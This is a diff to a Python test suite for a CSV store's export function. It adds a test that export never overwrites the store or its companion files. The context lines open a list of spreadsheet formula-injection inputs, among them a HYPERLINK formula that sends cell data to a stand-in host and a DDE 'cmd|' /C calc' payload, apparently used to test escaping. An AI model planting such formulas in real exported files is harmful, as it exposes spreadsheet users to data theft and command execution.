@@ -569,6 +569,16 @@ def test_another_kind_of_file_is_not_written(tmp_path: Path, name: str, named: s
     assert not (tmp_path / name).exists()
 
 
+@pytest.mark.parametrize("beside", ["", ".faiss", ".words"])
+def test_a_store_is_never_written_over_by_its_own_claims(tmp_path: Path, beside: str) -> None:
+    """Nor are the files that belong to it."""
+    with Store.open(tmp_path / "desk.csv") as store:
+        before = store.path.read_bytes()
+        with pytest.raises(UsageProblem, match="is the store itself"):
+            exchange.export(store, tmp_path / f"desk.csv{beside}")
+        assert store.path.read_bytes() == before
+
+
 FORMULAS = [
     *('=HYPERLINK("https://a.example?x="&A1,"see")', "-5 degrees", "+1", "@SUM(1+9)*cmd|' /C calc'!A0", "'=1", "''-1"),
     *("＝1", "＋1", "－1", "＠SUM", "'＝1", "\t=1", "\r=1", "=", "'-"),
